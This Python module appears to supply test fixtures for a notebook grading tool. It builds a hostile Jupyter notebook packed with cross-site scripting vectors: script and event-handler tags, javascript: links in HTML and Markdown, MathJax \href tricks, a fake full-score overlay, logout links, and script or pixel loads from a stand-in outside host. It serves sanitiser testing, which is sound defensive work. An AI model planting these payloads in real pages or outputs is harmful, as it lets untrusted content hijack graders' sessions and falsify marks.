"""Ways in which a candidate's words or outputs could run as a program in a provider's page.

Kinds known from OWASP's and DOMPurify's collections, and those found in the pages of nbconvert and nbgrader themselves.
Each sets `window.__ran` or asks for an address at outside.example.
"""

from __future__ import annotations

import base64
from typing import Any

import nbformat
from nbformat import v4

RUN = "window.__ran=1"
OUTSIDE = "http://outside.example"
PAGE = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

HTML = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script src='{OUTSIDE}/x.js'></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' alt=x>",
    f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    f"<img/src=x/onerror={RUN}//>",
    f"<img src='x`y' onerror=`{RUN}`>",
    f"<img src={OUTSIDE}/pixel.png>",
    f"<img srcset='{OUTSIDE}/pixel.png 1x'>",
    "<img src='javascript:window.__ran=1'>",
    f"<img src='data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}'></script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>press</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to='{RUN}'>",
    "<svg><use href='data:image/svg+xml,%3Csvg id=x onload=window.__ran=1%3E#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<svg><style><!--</style><img src=x onerror={RUN}>--></svg>",
    f"<math><a xlink:href='javascript:{RUN}'>press</a></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mi><style><img src=x onerror={RUN}></style></mi></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'>",
    f"<title><img title='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe src='data:text/html;base64,{PAGE}'></iframe>",
    f"<iframe src={OUTSIDE}/></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data='data:text/html;base64,{PAGE}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<base href='{OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>",
    f"<link rel=stylesheet href='{OUTSIDE}/x.css'>",
    f"<link rel=prefetch href='{OUTSIDE}/x'>",
    f"<style>@import '{OUTSIDE}/x.css';</style>",
    f"<style>body {{ background: url({OUTSIDE}/x.png) }}</style>",
    f"<p style='background: url({OUTSIDE}/x.png)'>words</p>",
    f"<p style='width: expression({RUN}); text-align: url({OUTSIDE}/y.png)'>words</p>",
    "<div style='position: fixed; inset: 0; background: white'>All marks: 10 of 10</div>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video src={OUTSIDE}/x.mp4 autoplay onloadstart={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>more</summary></details>",
    f"<marquee onstart={RUN}>words</marquee>",
    f"<p onmouseover={RUN} onclick={RUN}>words</p>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<a href=' &#1; jAvAsCrIpT:{RUN}'>press</a>",
    f"<a href='java&Tab;script&colon;{RUN}'>press</a>",
    f"<a href='java&#10;script:{RUN}'>press</a>",
    f"<a href='&#x6A;avascript:{RUN}'>press</a>",
    f"<a href='vbscript:{RUN}'>press</a>",
    f"<a href='data:text/html;base64,{PAGE}'>press</a>",
    "<a href='/hub/logout'>press</a>",
    f"<a href='http://a.example' target=_top onclick={RUN}>press</a>",
    f"<form action='javascript:{RUN}'><button>press</button></form>",
    f"<form action='{OUTSIDE}/'><input name=mark><button formaction='javascript:{RUN}'>press</button></form>",
    "<form name=body id=document><input name=cookie></form>",
    "<input class='score tabbable' id='1a-t12' value=10>",
    "<a id=submission_id name=base_url href='http://a.example'>words</a>",
    "<button data-commandlinker-command='notebook:run-all-cells'>press</button>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<table background='{OUTSIDE}/x.png'><tr><td background='{OUTSIDE}/y.png'>words</table>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<x/onclick={RUN} contenteditable autofocus onfocus={RUN} tabindex=1>words</x>",
    f"<scr\0ipt>{RUN}</scr\0ipt><img src=x onerr\0or={RUN}>",
    f"</div></div></main><script>{RUN}</script>",
    f"<p>$\\href{{javascript:{RUN}}}{{press}}$ \\(\\hr<wbr>ef{{javascript:{RUN}}}{{press}}\\)</p>",
)

MARKDOWN = (
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press]( javascript:{RUN})",
    f"[press](\tjavascript:{RUN})",
    f"[press](\u00a0javascript:{RUN})",
    f"[press](<javascript:{RUN}>)",
    f"[press](< javascript:{RUN}>)",
    f"[press](java&Tab;script:{RUN})",
    f"[press](javascript&colon;{RUN})",
    f"[press](javascript\\:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](&amp;#106;avascript:{RUN})",
    f"[press](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{RUN})",
    f"[press](vbscript:{RUN})",
    f"[press](data:text/html;base64,{PAGE})",
    f"[press](files/javascript:{RUN})",  # nbconvert takes "files/" away
    f"[press](/files/javascript:{RUN})",
    f"[press](files/&#106;avascript&#58;{RUN})",
    "[press](files//hub/logout)",
    "[press](../../../hub/logout)",
    f'[press](http://a.example "x" onmouseover={RUN} ")',
    f"[press]\n\n[press]: javascript:{RUN}",
    f"[press][1]\n\n[1]:\n  javascript:{RUN}",
    f"[press][1]\n\n> [1]: <javascript:{RUN}>",
    f"- [press][]\n\n  [press]: files/javascript:{RUN}",
    f"&#91;press&#93;&#40;javascript:{RUN}&#41;",
    f"<javascript:{RUN}>",
    f"<files/javascript:{RUN}>",
    f"![picture](javascript:{RUN})",
    f"![picture]({OUTSIDE}/pixel.png)",
    "![picture](/hub/logout)",
    f"![picture][1]\n\n[1]: {OUTSIDE}/pixel.png",
    f'![picture](x"onerror="{RUN})',
    f"[![picture](x)](javascript:{RUN})",
    f"```mermaid\n<img src=x onerror={RUN}>\n```",  # nbconvert puts a diagram on the page as it is
    f"~~~ mermaid\n&lt;img src=x onerror={RUN}&gt;\n~~~",
    f"- [ ] ```mermaid x\n  <img src=x onerror={RUN}>\n  ```",
    f'```x"onmouseover="{RUN}\nwords\n```',
    f'~~~x$"onmouseover="{RUN}"$`\nwords\n~~~',
    f"`<img src=x onerror={RUN}>`",
    f"```\n<img src=x onerror={RUN}>\n```\n</code></pre><img src=x onerror={RUN}>",
    f"    <script>{RUN}</script>",
    f"$<img src=x onerror={RUN}>$ and $$\n<script>{RUN}</script>\n$$",
    f"\\begin{{x}}<img src=x onerror={RUN}>\\end{{x}}",
    f"$\\href{{javascript:{RUN}}}{{press}}$",
    f"$$\\href{{javascript:{RUN}}}{{press}}$$",
    f"\\\\(\\href{{javascript:{RUN}}}{{press}}\\\\)",
    f"&#36;&#92;href{{javascript:{RUN}}}{{press}}&#36;",
    f"$\\def\\x#1#2{{\\#1#2}}\\x{{h}}{{ref}}{{javascript:{RUN}}}{{press}}$",
    f"$\\style{{background: url({OUTSIDE}/x.png); position: fixed; inset: 0}}{{x}}$",
    f"$\\require{{html}}\\class{{score}}{{\\cssId{{1a-t12}}{{x}}}} \\includegraphics{{{OUTSIDE}/x.png}}$",
    f'http://a.example/$"onmouseover="{RUN}"$',  # JupyterLab puts maths back unescaped
    f'www.a.example/\\\\("onmouseover="{RUN}"\\\\)',
    f"<a href='files/javascript:{RUN}'>press</a>",
    "# 1a-t12",
    "## #1a-t12",
    "1a-t12\n===",
    "> * statusmessage\n>   ---",
    f"<scr\u2028ipt>{RUN}</script>\r<img\rsrc=x\ronerror={RUN}>",
    f"\\<img src=x onerror={RUN}> \\\\<img src=x onerror={RUN}>",
    f"<\ud83dimg src=x onerror={RUN}>",
)

DATA: tuple[dict[str, Any], ...] = (
    {"application/javascript": RUN, "text/plain": "a script"},
    {"image/svg+xml": SVG},
    {"text/latex": f"<script>{RUN}</script>$\\href{{javascript:{RUN}}}{{press}}$"},
    {"text/vnd.mermaid": f"<img src=x onerror={RUN}>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}},
    {"application/vnd.vega.v5+json": {"signals": [{"update": RUN}]}},
    {"text/html; charset=utf-8": f"<script>{RUN}</script>"},
    {"image/png": f'{PNG}"onload="{RUN}'},
    {"image/jpeg": base64.b64encode(SVG.encode()).decode()},
    {"text/plain": f"<script>{RUN}</script>"},
    {"text/markdown": f"<img src=x onerror={RUN}>\n[press](javascript:{RUN})"},
)
OUTPUTS: tuple[dict[str, Any], ...] = (
    {"output_type": "stream", "name": "stdout", "text": f"<script>{RUN}</script> \x1b[31m<img src=x onerror={RUN}>"},
    {
        "output_type": "error",
        "ename": f"<script>{RUN}</script>",
        "evalue": f"<script>{RUN}</script>",
        "traceback": [f"<script>{RUN}</script>", f"\x1b[0;31m<img src=x onerror={RUN}>\x1b[0m"],
    },
    {
        "output_type": "display_data",
        "data": {"text/html": f"<script>parent.{RUN}</script>"},
        "metadata": {"text/html": {"isolated": True}},
    },
    {
        "output_type": "display_data",
        "data": {"image/png": PNG},
        "metadata": {"image/png": {"width": f"1 onload={RUN}"}, "filenames": {"image/png": f"{OUTSIDE}/x.png"}},
    },
    *({"output_type": "display_data", "data": data, "metadata": {}} for data in DATA),
)
# These stop nbconvert, so that a provider could open neither the page nor anybody's feedback.
STOPPING_MARKDOWN = ("![picture](attachment:gone.png)", "![picture][1]\n\n[1]: attachment:gone.png")
STOPPING_OUTPUTS: tuple[dict[str, Any], ...] = (
    {"output_type": "stream", "name": "stdout", "text": "a terminal's colour that does not end: \x1b[38m"},
)


def displayed(html: str) -> dict[str, Any]:
    """Give the output that shows HTML."""
    return {"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}


def hostile_notebook(raw: bool) -> nbformat.NotebookNode:
    """Give a notebook with every way to do harm that we know: as a candidate sent it, or cleaned.

    Each Markdown vector has a Markdown cell; HTML and other outputs stand below code cells. What stops nbconvert is in
    the cleaned one only. Cell ids are v0, v1 ...; metadata is empty.
    """
    from npqml.grading.cleaning.outputs import clean_markdown, clean_outputs, clean_source

    texts = [*MARKDOWN, *HTML, *(() if raw else STOPPING_MARKDOWN)]
    outputs = [*OUTPUTS, *map(displayed, HTML), *(() if raw else STOPPING_OUTPUTS)]
    cells = [v4.new_markdown_cell(_writable(one) if raw else clean_markdown(one)) for one in texts]
    for one in outputs:
        found = [nbformat.from_dict(output) for output in ([one] if raw else clean_outputs([one]))]
        cells.append(v4.new_code_cell(clean_source(f"'<script>{RUN}</script>'"), outputs=found))
    for number, cell in enumerate(cells):
        cell["id"] = f"v{number}"
    return v4.new_notebook(cells=cells)


def _writable(text: str) -> str:
    return text.encode("utf-8", "replace").decode("utf-8")
